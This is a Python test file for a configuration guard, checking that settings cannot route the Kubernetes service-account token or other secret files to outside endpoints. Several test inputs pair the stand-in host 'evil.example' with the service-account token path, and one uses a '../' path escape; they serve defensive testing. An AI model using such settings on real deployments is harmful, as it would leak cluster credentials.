"""Files that settings name: whoever may edit the settings cannot have the guard's own secrets sent elsewhere."""

from __future__ import annotations

from pathlib import Path

import pytest

from logcaster_guard.config import named_files
from logcaster_guard.config.loading import Loaded, load
from logcaster_guard.config.named_files import absent, places
from logcaster_guard.config.settings import default_settings
from logcaster_guard.fields.faults import ConfigFault

EVERY_FILE = """\
sources:
  prometheus: {url: "http://prometheus:9090", token: {file: FOLDER/a}, ca_file: FOLDER/b}
  kubernetes: {kubeconfig: FOLDER/c}
notify:
  slack: [{name: s, url: {file: FOLDER/d}}]
  webhooks: [{name: w, url: {env: NOT_SET_ANYWHERE}, token: {file: FOLDER/e}}]
journal: {path: FOLDER/f, blobs: FOLDER/g}
web: {auth: {token: {file: FOLDER/h}}}
database: {host: db, password: {file: FOLDER/i}, sslrootcert: FOLDER/j, migrations: FOLDER/k}
"""


def loaded(folder: Path, text: str, below: list[Path] | None = None) -> Loaded | list[ConfigFault]:
    file = folder / "guard.yaml"
    file.write_text(text)
    return load(file, below=below or [])


def refused(found: Loaded | list[ConfigFault]) -> list[str]:
    assert isinstance(found, list)
    return [str(fault) for fault in found]


@pytest.mark.parametrize("below", [[], ["anywhere"]])
def test_the_service_accounts_token_is_never_sent_to_anybody_else(tmp_path: Path, below: list[str]) -> None:
    text = (
        "sources:\n  prometheus: {url: 'http://evil.example', "
        "token: {file: /var/run/secrets/kubernetes.io/serviceaccount/token}}\n"
    )
    fault = refused(loaded(tmp_path, text, [Path("/var")] if below else None))[0]
    assert ":2:" in fault
    assert "found the service account's own token, which is for the Kubernetes API alone" in fault
    assert "a projected serviceAccountToken volume" in fault


def test_a_link_to_it_is_the_same_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own = tmp_path / "own"
    own.mkdir()
    (own / "token").write_text("t")
    (tmp_path / "innocent").symlink_to(own / "token")
    monkeypatch.setattr(named_files, "SERVICE_ACCOUNT", own)
    text = f"notify: {{webhooks: [{{name: w, url: 'http://evil.example', token: {{file: {tmp_path}/innocent}}}}]}}\n"
    (fault,) = refused(loaded(tmp_path, text))
    assert "the service account's own token" in fault


def test_every_path_has_to_lie_below_a_listed_folder(tmp_path: Path) -> None:
    mine, other = tmp_path / "mine", tmp_path / "other"
    text = EVERY_FILE.replace("FOLDER", str(other))
    faults = refused(loaded(tmp_path, text, [mine]))
    assert len(faults) == 11
    assert all(f'a path below "{mine}" (--files-below)' in fault for fault in faults)
    assert isinstance(loaded(tmp_path, text, [mine, other]), Loaded)
    (fault,) = refused(loaded(tmp_path, f"journal: {{path: {mine}/../other/j, blobs: {mine}/b}}\n", [mine]))
    assert "/../other/j" in fault


def test_a_kubeconfig_beside_the_configuration_is_refused_through_the_links_of_a_mount(tmp_path: Path) -> None:
    mount, data = tmp_path / "mount", tmp_path / "mount" / "..data"
    data.mkdir(parents=True)
    (data / "guard.yaml").write_text(f"sources: {{kubernetes: {{kubeconfig: {data}/kubeconfig}}}}\n")
    (mount / "guard.yaml").symlink_to(data / "guard.yaml")
    (fault,) = refused(load(mount))
    assert "a kubeconfig elsewhere: it names credentials, and programs that the guard runs" in fault
    (data / "guard.yaml").write_text(f"sources: {{kubernetes: {{kubeconfig: {tmp_path}/kubeconfig}}}}\n")
    assert isinstance(load(mount), Loaded)


def test_what_is_not_here_is_told_by_check_with_its_key(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("t")
    found = loaded(
        tmp_path, EVERY_FILE.replace("FOLDER", str(tmp_path / "x")).replace(f"{tmp_path}/x/a", f"{tmp_path}/a")
    )
    assert isinstance(found, Loaded)
    needed = "; the guard needs it where it runs"
    assert list(absent(found.settings)) == [
        f'sources.prometheus.ca_file: "{tmp_path}/x/b" is not there{needed}',
        f'sources.kubernetes.kubeconfig: "{tmp_path}/x/c" is not there{needed}',
        f'database.password: "{tmp_path}/x/i" is not there{needed}',
        f'database.sslrootcert: "{tmp_path}/x/j" is not there{needed}',
        f'database.migrations: "{tmp_path}/x/k" is not there{needed}',
        f'notify.slack[0].url: "{tmp_path}/x/d" is not there{needed}',
        f'notify.webhooks[0].token: "{tmp_path}/x/e" is not there{needed}',
        f'web.auth.token: "{tmp_path}/x/h" is not there{needed}',
        f"notify.webhooks[0].url: the environment variable NOT_SET_ANYWHERE is not set{needed}",
    ]


def test_the_defaults_name_the_journal_alone() -> None:
    assert [loc for loc, _ in places(default_settings())] == [("journal", "path"), ("journal", "blobs")]
